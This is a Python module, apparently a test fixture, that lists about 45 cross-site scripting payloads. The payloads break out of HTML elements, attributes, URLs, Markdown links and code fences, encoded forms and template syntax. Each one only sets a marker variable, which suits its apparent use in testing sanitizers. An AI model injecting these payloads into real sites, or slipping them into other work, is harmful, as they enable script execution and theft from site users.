"""Texts that run as a script wherever a page takes text for something else.

Each would set `pwned` in the window. They are for the places that text can break out of: elements, attributes, URLs,
styles, Markdown, JSON in an attribute, templates.
"""

from __future__ import annotations

_RUN = "window.pwned=1"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>x</details>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f'<object data="javascript:{_RUN}"></object>',
    f'<a href="javascript:{_RUN}">x</a>',
    f'<form><button formaction="javascript:{_RUN}">x</button></form>',
    f"<math><mtext></mtext><script>{_RUN}</script></math>",
    f'<style>@keyframes x{{}}</style><p style="animation:x" onanimationstart={_RUN}>',
    f"<marquee onstart={_RUN}>x</marquee>",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](vbscript:{_RUN})",
    f'![x](x" onerror="{_RUN})',
    f"<javascript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f'[a](https://example.org"onmouseover="{_RUN})',
    f"`<img src=x onerror={_RUN}>`",
    f"```\n</code></pre><script>{_RUN}</script>\n```",
    f'```"onload={_RUN}\nx\n```',
    f"| a |\n|-|\n| <img src=x onerror={_RUN}> |",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"${{{_RUN}}}{{{{{_RUN}}}}}",
    f"');{_RUN};//",
    f"\"}}'/><script>{_RUN}</script>",
    f"--><!--><script>{_RUN}</script><textarea></textarea><title></title>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"\u2028{_RUN}\u2029<script>{_RUN}</script>",
    f"<scr\u0000ipt>{_RUN}</scr\u0000ipt>".replace("\u0000", "\u200b"),
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
)
